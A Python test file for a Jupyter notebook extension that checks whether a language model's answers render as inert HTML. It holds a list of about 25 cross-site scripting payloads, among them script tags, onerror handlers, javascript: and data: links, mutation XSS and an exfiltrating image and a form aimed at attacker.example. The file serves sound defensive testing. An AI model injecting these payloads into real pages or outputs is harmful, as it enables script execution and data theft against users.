"""A model's answer is untrusted input: whatever it holds, the HTML we hand to JupyterLab (which
does not sanitise the outputs of the running session) and to the panel's widgets runs nothing.

Each hostile payload goes through every path that turns an answer into markup: the magic's final
and streaming bundles in ``markdown`` and ``html`` format, and the panel's Markdown rendering.
The checks read the markup with a real HTML parser, as a browser would.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest

from orchestify_nb.panel.markdown import render_markdown
from orchestify_nb.render import OUTPUT_FORMATS, answer_bundle

#: Tags that cannot run script, load anything or restyle the page.
INERT_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl",
    "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol",
    "p", "pre", "q", "s", "samp", "small", "span", "strike", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}  # fmt: skip

PAYLOADS = {
    "img onerror": '<img src=x onerror="window.__pwned=1">',
    "svg onload": '<svg onload="window.__pwned=1"><circle r=1 /></svg>',
    "script": "<script>window.__pwned=1</script>",
    "script in a block": "<div>\n<script>window.__pwned=1</script>\n</div>",
    "javascript: in an html link": '<a href="javascript:window.__pwned=1">click</a>',
    "entity-encoded javascript: link": '<a href="&#106;avascript:window.__pwned=1">click</a>',
    "markdown javascript: link": "[click](javascript:window.__pwned=1)",
    "markdown mixed-case link": "[click](JaVaScRiPt:window.__pwned=1)",
    "markdown entity link": "[click](jav&#x61;script:window.__pwned=1)",
    "markdown autolink": "<javascript:window.__pwned=1>",
    "markdown data: link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown data: image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown remote image": "![pixel](https://attacker.example/leak?secret=1)",
    "iframe": '<iframe src="https://attacker.example" srcdoc="<script>x</script>"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://attacker.example"><input name=q><button>Go</button></form>',
    "style tag": "<style>body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://a.example)">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "base href": '<base href="https://attacker.example/">',
    "entities spelling a tag": "&lt;img src=x onerror=window.__pwned=1&gt;",
    "numeric entities spelling a tag": "&#60;img src=x onerror=window.__pwned=1&#62;",
    "mutation xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "closing fence then html": "```\ncode\n  ```\n<img src=x onerror=window.__pwned=1>",
    "id clobbering": '<a id="jupyterapp" name="jupyterapp" href="https://x.example">x</a>',
}


class _Markup(HTMLParser):
    """Tags with their attributes, and the text a reader sees."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def parse(markup: str) -> _Markup:
    parser = _Markup()
    parser.feed(markup)
    parser.close()
    return parser


def assert_inert(markup: str) -> None:
    """Only inert tags; no handlers, styles beyond ours and alignment, ids or names; links only to
    http(s) and mailto, each with rel="noopener noreferrer"."""
    for tag, attrs in parse(markup).tags:
        assert tag in INERT_TAGS, f"<{tag}> in {markup!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} on <{tag}> in {markup!r}"
            assert name not in ("id", "name", "src", "srcdoc", "action"), markup
            if name == "style":
                style = (value or "").replace(" ", "")
                ours = style.startswith(("text-align:", "white-space:pre-wrap"))
                assert ours or not style, markup
        if tag == "a" and "href" in attrs:
            href = (attrs["href"] or "").strip().lower()
            assert href.startswith(("http://", "https://", "mailto:")), markup
            assert attrs.get("rel") == "noopener noreferrer", markup


def renderings(answer: str) -> dict[str, str]:
    """Every markup an answer becomes, by where it is shown."""
    shown = {"panel": render_markdown(answer)}
    for output_format in OUTPUT_FORMATS:
        for streaming in (False, True):
            bundle = answer_bundle(answer, output_format=output_format, streaming=streaming)
            shown[f"{output_format}, streaming={streaming}"] = bundle["text/html"]
    return shown


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_hostile_answer_renders_inert_in_every_format_and_in_the_panel(payload: str) -> None:
    answer = f"Here is the summary you asked for.\n\n{payload}\n\nAnything else?"
    for where, markup in renderings(answer).items():
        try:
            assert_inert(markup)
        except AssertionError as error:
            raise AssertionError(f"{where}: {error}") from None
        if not where.startswith("html"):  # the answer's own unclosed <style> may swallow it
            assert "Anything else?" in parse(markup).text, where


def test_every_bundle_of_every_format_has_html_built_by_us() -> None:
    """Front ends prefer text/html to text/markdown: with ours present, JupyterLab never hands
    the answer's source to its own Markdown renderer, which passes trusted raw HTML through."""
    for output_format in OUTPUT_FORMATS:
        for streaming in (False, True):
            bundle: dict[str, Any] = answer_bundle(
                "x <img src=x onerror=alert(1)>", output_format=output_format, streaming=streaming
            )
            assert "text/html" in bundle, (output_format, streaming)
            assert_inert(bundle["text/html"])


def test_html_in_code_spans_and_blocks_stays_visible_as_text() -> None:
    answer = "Use `<img src=x onerror=alert(1)>` or:\n\n```html\n<script>alert(2)</script>\n```\n"
    for markup in (answer_bundle(answer)["text/html"], render_markdown(answer)):
        assert_inert(markup)
        seen = parse(markup).text
        assert "<img src=x onerror=alert(1)>" in seen
        assert "<script>alert(2)</script>" in seen


def test_safe_links_stay_clickable_with_noopener_and_unsafe_ones_become_text() -> None:
    answer = (
        "[docs](https://example.org/a?b=1&c=2) <https://example.com> [mail](mailto:a@b.example) "
        "[bad](javascript:alert(1)) [rel](/lab/tree/secret.ipynb)"
    )
    markup = answer_bundle(answer)["text/html"]
    assert_inert(markup)
    hrefs = [attrs.get("href") for tag, attrs in parse(markup).tags if tag == "a"]
    assert hrefs == ["https://example.org/a?b=1&c=2", "https://example.com", "mailto:a@b.example"]
    assert "bad" in parse(markup).text and "rel" in parse(markup).text


def test_format_html_keeps_formatting_but_drops_scripts_handlers_and_styles() -> None:
    answer = (
        '<h3 onclick="alert(1)">Report</h3><table><tr><td style="color:red">1</td></tr></table>'
        '<p>See <a href="https://example.org" target="_top">this</a>.</p>'
        "<script>alert(2)</script>"
    )
    markup = answer_bundle(answer, output_format="html")["text/html"]
    assert_inert(markup)
    tags = [tag for tag, _ in parse(markup).tags]
    assert [t for t in tags if t != "tbody"] == ["h3", "table", "tr", "td", "p", "a"]
    assert "alert(2)" not in markup


def test_markdown_still_renders_as_markdown() -> None:
    markup = answer_bundle(
        "**bold**, `x < y`, ~~old~~\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- one\n- two\n\n$e^x$"
    )["text/html"]
    assert_inert(markup)
    tags = {tag for tag, _ in parse(markup).tags}
    assert {"strong", "code", "del", "table", "th", "td", "ul", "li", "span"} <= tags
    assert "x < y" in parse(markup).text and "\\(e^x\\)" in parse(markup).text
